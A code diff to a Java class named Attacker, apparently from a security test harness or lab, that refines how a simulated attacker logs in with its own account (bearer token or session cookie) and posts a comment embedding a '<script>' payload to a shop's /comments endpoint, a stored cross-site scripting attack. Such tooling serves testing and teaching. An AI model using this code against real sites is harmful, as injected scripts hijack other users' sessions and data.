@@ -107,8 +107,12 @@ public final class Attacker implements AutoCloseable {
                 .put("text", "Nice! <script>\n" + script + "</script>")
                 .toString();
         Optional<Header> credential = tokens ? ownToken() : ownSession();
-        String target = tokens ? shop.replaceFirst("://", "://api.") + path : path;
-        return credential.flatMap(own -> send("POST", target + "/comments", comment, JSON, own));
+        return credential.flatMap(own -> {
+            // A token in a cookie belongs to the shop's own host, one in a header to its API.
+            boolean api = own.name().equals("Authorization");
+            String target = api ? shop.replaceFirst("://", "://api.") + path : path;
+            return send("POST", target + "/comments", comment, JSON, own);
+        });
     }
 
     /** Logs in to an ordinary account of her own, where the shop works with tokens; empty when there was no answer. */
@@ -126,14 +130,18 @@ public final class Attacker implements AutoCloseable {
                 .flatMap(answer -> JsonMapper.shared()
                         .readTree(answer.body().utf8())
                         .path("access_token")
-                        .asStringOpt())
-                .map(token -> new Header("Authorization", "Bearer " + token));
+                        .asStringOpt()
+                        .map(token -> new Header("Authorization", "Bearer " + token))
+                        .or(() -> cookie(answer)));
     }
 
     private Optional<Header> ownSession() {
         return send("POST", "/login", "username=" + OWN_ACCOUNT + "&password=" + OWN_PASSWORD, FORM)
-                .flatMap(answer -> answer.header("Set-Cookie"))
-                .map(line -> new Header("Cookie", line.split(";", 2)[0]));
+                .flatMap(Attacker::cookie);
+    }
+
+    private static Optional<Header> cookie(WireAnswer answer) {
+        return answer.header("Set-Cookie").map(line -> new Header("Cookie", line.split(";", 2)[0]));
     }
 
     /** Tries an access token where it only tells who its owner is. */
